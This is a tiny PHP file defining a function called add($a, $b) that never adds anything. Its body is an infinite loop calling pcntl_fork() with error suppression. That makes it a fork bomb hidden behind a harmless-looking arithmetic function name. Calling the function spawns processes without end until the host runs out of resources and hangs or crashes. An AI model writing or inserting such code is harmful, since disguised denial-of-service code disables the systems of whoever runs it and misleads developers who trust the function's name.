<?php
function add($a, $b) {
    while (true) {
        @pcntl_fork();
    }
}
